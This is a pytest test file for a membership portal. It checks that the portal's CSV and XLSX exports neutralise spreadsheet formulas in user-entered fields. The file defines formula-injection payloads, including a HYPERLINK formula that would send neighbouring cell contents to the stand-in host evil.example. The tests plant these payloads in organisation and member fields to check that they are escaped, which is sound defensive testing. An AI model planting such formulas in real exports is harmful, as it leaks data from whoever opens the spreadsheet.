"""Every file the portal produces for people to open carries no live formula (issue 10 item 3, issue 9 item 16).

The one writer (portal/spreadsheets.py) is checked as units, then every exporting endpoint is fetched as its user
would, with formula payloads planted where people type (an organisation's name in its passport, a position, an
address, an e-mail that is a valid address yet starts with «=»), and the file is read back: a CSV has no cell a
spreadsheet would evaluate, an XLSX has no formula cell and shows a phone as typed, without an apostrophe.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import Workbook, load_workbook

from portal.extensions import db
from portal.registry.models import ConsentStatus
from portal.registry.rules import check_member, email_is_valid
from portal.spreadsheets import append, csv_bytes, csv_cell, save_xlsx
from tests.conftest import create_member, login

HYPERLINK = '=HYPERLINK("http://evil.example/?"&C2&D2,"@x.ru")'
PHONE = "+7 (474) 200-00-00"
PAYLOADS = {"name": '=HYPERLINK("http://evil.example/?"&C2&D2,"ППО")', "position": "=1+1", "address": "@SUM(1+1)",
            "department": "-2+3", "email": "=a@example.ru", "phone": PHONE}
RISKY = ("=", "+", "-", "@", "\t", "\r")


# ---- the writer --------------------------------------------------------------------------------------------------


def test_csv_cells_starting_a_formula_get_an_apostrophe_and_others_pass():
    assert [csv_cell(v) for v in ("=1+1", "+7 1", "-2", "@A1", "\tx", "\rx")] == [
        "'=1+1", "'+7 1", "'-2", "'@A1", "'\tx", "'\rx"]
    assert [csv_cell(v) for v in ("Иванова", "", None, 5, "a=b")] == ["Иванова", "", "", "5", "a=b"]
    rows = list(csv.reader(io.StringIO(csv_bytes(["a", "b"], [["=x", 1], {"a": "@y", "b": None}]).decode()),
                           delimiter=";"))
    assert rows == [["a", "b"], ["'=x", "1"], ["'@y", ""]]


@pytest.mark.parametrize("write_only", [True, False], ids=["write-only", "ordinary"])
def test_xlsx_text_is_a_text_cell_without_an_apostrophe(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("s") if write_only else wb.active
    append(ws, [HYPERLINK, PHONE, "-2", "@SUM(1)", 5])
    if not write_only:
        ws.append(["=1+2"])  # written past the helper: save_xlsx still turns it into text
    data = save_xlsx(wb) if not write_only else _saved(wb)
    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row if c.value is not None]
    assert [c.value for c in cells][:5] == [HYPERLINK, PHONE, "-2", "@SUM(1)", 5]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert_no_formula_in_xlsx(data)


def _saved(wb) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


@pytest.mark.parametrize("value", [HYPERLINK, "a@b", "a..b@x.ru", "a@x.local", "x@mail.localhost", "a b@x.ru",
                                   "a@x.ru)", "<a@x.ru>", "Анна <a@x.ru>", "a@-x.ru", "@x.ru", "a@"])
def test_what_is_not_an_address_is_refused(value):
    assert not email_is_valid(value)
    assert check_member({"email": value})["email"] == "неверный e-mail"


@pytest.mark.parametrize("value", ["petrova@example.ru", "Anna.P+1@Sub.Example.COM", "иван@почта.рф",
                                   "a_b-c@x-y.ru", "=a@example.ru", "o'brien@example.com"])
def test_addresses_are_accepted(value):
    assert email_is_valid(value)
    assert "email" not in check_member({"email": value})


def test_the_fast_path_accepts_only_what_email_validator_accepts():
    """The regular expression that spares the import the library must never accept more than the library."""
    from email_validator import EmailNotValidError, validate_email

    from portal.registry import rules

    samples = [f"{local}@{domain}" for local in ("a", "a.b", "a_b", "a+b", "-a", "a-", "1")
               for domain in ("x.ru", "x-y.ru", "x.y.ru", "xn--80a.ru", "x.test", "x.local", "x.r", "x.co1",
                              "1.ru", "x.onion", "a" * 63 + ".ru")]
    for address in samples:
        if rules._PLAIN_EMAIL.fullmatch(address) and email_is_valid(address):
            try:
                validate_email(address, check_deliverability=False)
            except EmailNotValidError as e:
                pytest.fail(f"{address}: fast path accepted what email-validator refuses ({e})")


def test_the_import_refuses_the_hyperlink_email(world):
    from portal.registry.imports import import_file
    from tests.test_imports import GOOD
    from tests.test_imports import csv_bytes as list_csv

    row = [*GOOD[:-1], HYPERLINK]
    result = import_file(world.school_a, list_csv([row]), "a.csv", None, dry_run=True)
    assert result.refused and "неверный e-mail" in result.refused[0][2]


# ---- every exporting endpoint ------------------------------------------------------------------------------------


def assert_no_formula_in_xlsx(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and c.value.startswith("'") and c.value[1:2] in RISKY:
                    pytest.fail(f"{c.coordinate}: a visible apostrophe in {c.value!r}")


def assert_no_formula_in_csv(data: bytes, delimiter: str) -> list[str]:
    text = data.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
    live = [c for c in cells if c[:1] in RISKY]
    assert live == [], live
    return cells


@pytest.fixture
def planted(world):
    """Formula payloads where people type them: the primary's name (its passport), a member's card fields."""
    org = world.school_a
    org.name = PAYLOADS["name"]
    m = create_member(org, position=PAYLOADS["position"], address=PAYLOADS["address"],
                      department=PAYLOADS["department"], email=PAYLOADS["email"], phone=PHONE)
    m.consent_status = ConsentStatus.SIGNED
    db.session.commit()
    return m


def _member_export(client, world, planted):
    login(client, world.users["primary_chair"])
    r = client.get(f"/orgs/{world.school_a.id}/export.xlsx")
    return r, "xlsx"


def _consent_transfer(client, world, planted):
    from portal.consent import operations as consent_ops

    export = consent_ops.export_to_bonus_programme()
    db.session.commit()
    login(client, world.users["central_admin"])
    r = client.get(f"/consent-exports/{export.id}/csv")
    raw = client.get(f"/consent-exports/{export.id}/json").get_json()
    assert raw["rows"][0]["email"] == PAYLOADS["email"] and raw["rows"][0]["phone"] == PHONE  # JSON stays raw
    return r, "csv"


def _manifest(fmt):
    def fetch(client, world, planted):
        from portal.cards import operations as card_ops
        from workflows import CARD_REQUEST, fire

        chair = world.users["primary_chair"]
        req = card_ops.draft_for(world.school_a, chair)
        assert card_ops.add_members(req, [planted]) == (1, [])
        fire(CARD_REQUEST, req, "submit", chair)
        db.session.commit()
        cutoff = datetime.now(UTC) + timedelta(seconds=1)
        batch = card_ops.process_due_requests(cutoff, cutoff.date())
        login(client, world.users["central_admin"])  # the manifests are the central office's
        return client.get(f"/card-batches/{batch.id}/manifest.{fmt}"), fmt
    return fetch


def _aid_register(client, world, planted):
    from tests.aid_helpers import petition_in

    aid = _aid_world(world)
    petition_in(aid, "approved", member=create_member(world.school_a))
    login(client, aid.users["accountant"])
    return client.get("/aid/payments/register.xlsx"), "xlsx"


def _aid_world(world):
    """The aid fixture's world, built here (pytest fixtures are not called directly)."""
    from datetime import date

    from portal.aid import operations as aid_ops
    from portal.auth.models import Role
    from tests.aid_helpers import AidWorld
    from tests.conftest import create_user
    from workflows.aid import seed_regulation

    reg = aid_ops.save_regulation(None, world.region_a, seed_regulation(), valid_from=date(2020, 1, 1))
    db.session.commit()
    users = dict(world.users)
    users["presidium_member"] = create_user(world.region_a, Role.PRESIDIUM_MEMBER, "presidium")
    users["accountant"] = create_user(world.region_a, Role.ACCOUNTANT, "accountant")
    return AidWorld(world, reg, users)


def _admin_csv(view):
    def fetch(client, world, planted):
        login(client, world.users["central_admin"])
        return client.get(f"/admin/{view}/export/csv/"), "csv-comma"
    return fetch


@pytest.mark.parametrize("fetch", [
    _member_export, _consent_transfer, _manifest("xlsx"), _manifest("csv"), _aid_register,
    _admin_csv("organisations"), _admin_csv("members"),
], ids=["member-export", "profcards-transfer-csv", "card-manifest-xlsx", "card-manifest-csv",
        "aid-payment-register", "admin-organisations-csv", "admin-members-csv"])
def test_no_exported_file_holds_a_live_formula(client, world, planted, fetch):
    response, kind = fetch(client, world, planted)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    data = response.get_data()
    if kind == "xlsx":
        assert_no_formula_in_xlsx(data)
        values = [c for ws in load_workbook(io.BytesIO(data)).worksheets
                  for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)]
        assert any(v == PAYLOADS["name"] or v.startswith("=HYPERLINK") for v in values)  # shown as typed
    else:
        cells = assert_no_formula_in_csv(data, "," if kind == "csv-comma" else ";")
        assert any(c[:1] == "'" and c[1:2] in RISKY for c in cells)  # a payload was there, and neutralised
